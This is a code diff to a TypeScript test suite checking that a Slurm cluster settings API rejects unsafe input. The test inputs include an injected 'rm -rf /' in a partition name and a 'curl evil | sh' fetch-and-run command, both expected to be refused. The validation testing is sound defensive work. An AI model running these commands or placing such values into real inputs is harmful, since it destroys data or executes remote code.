@@ -204,6 +204,9 @@ describe.skipIf(unavailable !== null)('apply to volume on a Slurm cluster', () =
     try {
       const refused = await dispatch('cluster.updateSettings', [{ partition: 'test; rm -rf /' }]);
       expect(refused).toMatchObject({ ok: false, error: { code: 'invalid-argument' } });
+      // What the nodes run is set from the command line only, never by a page holding the token.
+      const command = await dispatch('cluster.updateSettings', [{ command: 'curl evil | sh' }]);
+      expect(command).toMatchObject({ ok: false, error: { code: 'invalid-argument' } });
       expect(await dispatch('cluster.updateSettings', [{ tasks: 2 }])).toMatchObject({ ok: true, value: { tasks: 2 } });
       const applied = await dispatch('cluster.apply', [{ surveyId, task: 'denoise', method: 'fx' }, {}]);
       expect(applied.ok, JSON.stringify(applied)).toBe(true);
